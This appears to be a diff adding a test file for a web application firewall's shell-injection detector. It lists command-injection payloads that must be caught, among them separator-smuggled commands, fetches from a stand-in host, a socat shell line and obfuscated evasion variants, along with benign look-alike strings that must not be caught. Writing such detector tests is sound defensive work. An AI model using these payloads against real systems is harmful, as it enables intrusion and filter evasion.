@@ -1,0 +1,93 @@
+import { describe, test } from "node:test";
+import { shellDetector } from "../../../src/waf/detectors/shell.ts";
+import { assertMarks } from "./marks-table.ts";
+
+describe("commands of a shell", () => {
+  test("are seen behind a separator when they are given what programs are given", () => {
+    assertMarks(shellDetector, {
+      command: [
+        "7; cat /etc/hostname",
+        "box|ls -la",
+        "box && uname",
+        "7;whoami",
+        "x || ping -c 3 10.1.2.3",
+        "|sleep 9",
+        ";curl http://a.example/i.sh",
+        "& dir C:\\Users",
+        "shelf\nwget http://a.example/x",
+        "'; net user bob pw",
+        "box; python3 -c 'print(1)'",
+        "box;/usr/bin/id",
+        "box; sudo -u root env cat /root/x",
+        "box;head${IFS}/etc/motd",
+        "box;tac$IFS$9/etc/motd",
+        "box;{cat,/etc/motd}",
+        "9;id",
+        "box; echo $HOME",
+        "box && sleep 9 boxes",
+        "box;cat</etc/motd",
+        "wget -q http://a.example/x -O- ",
+        "powershell -enc SQBFAFgA",
+        "nohup ifconfig",
+        ";socat tcp:10.0.0.9:9 exec:sh",
+        "box; ls /",
+        "box & whoami now",
+        ";$@id",
+        "$(id); cat conf/db.inc",
+      ],
+      substitution: ["box $(whoami)", "box `id`", "$(cat /etc/motd)", "a`sleep 9`b"],
+      broken: ["; c'a't /etc/motd", ";w\\hoami", ";w\"\"hoami", "& w^h^o^a^m^i", ";wh$@oami", ";w\\ho\\ami", "/bi[n]/ls", ";/???/c?t /etc/motd", ";/b?n/ls"],
+      bare: ["box; id", "box | curl"],
+      alone: ["whoami", "netstat"],
+    });
+  });
+
+  test("are not seen in texts, part numbers and lists", () => {
+    assertMarks(shellDetector, {
+      "": [
+        "cat 6 cable; 10 m",
+        "cable; cat 6 U/UTP",
+        "ping pong set",
+        "A|B|C",
+        "R&D; 24/7",
+        "Make & model; sort by date",
+        "Java; Python; PHP",
+        "Find & fix kit; more info",
+        "1 > 0 && 2 < 3",
+        "yes || no",
+        "Cut & paste; time 12:00",
+        "Head; tail; top",
+        "Note:\nfind attached the list\nsort by date\nwho: Anna",
+        "D'or & d'argent",
+        "price | net 30 days",
+        "echo; delta; foxtrot",
+        "which; where; when",
+        "C:\\Temp",
+        "name;price;unit",
+        "LS 300; Lexus",
+        "sleep mask; sleep 8 hours",
+        "Salt&Pepper",
+        "$(USD) 5",
+        "`code` and `more`",
+        "curl/8.5.0",
+        "cable; w/o plug",
+        "multipart/related; type=\"text/xml\"; start=\"<a>\"",
+        "|D\\d{7}|FI\\d{8}",
+        "GET `/sessions/*` and `/invoices/query`",
+        "Curl / Ping Zrt.",
+        "\"Curl\" P.L.C.",
+        "Sort & find tray/*9-17",
+        "the dog ran; who cares?",
+        "curl & wget examples for clients",
+        "ring & wait && sleep 8 hours",
+        "Mount; wall $228",
+        "cut & sort / #1",
+        "echo; delta../Nano SIM",
+        "Add `id` as the second key",
+        "/orders/[id]/lines/[no]",
+        "/shelf[2]/box or /shelf[3]",
+        "uname", "lastlog", "route",
+      ],
+    });
+  });
+});
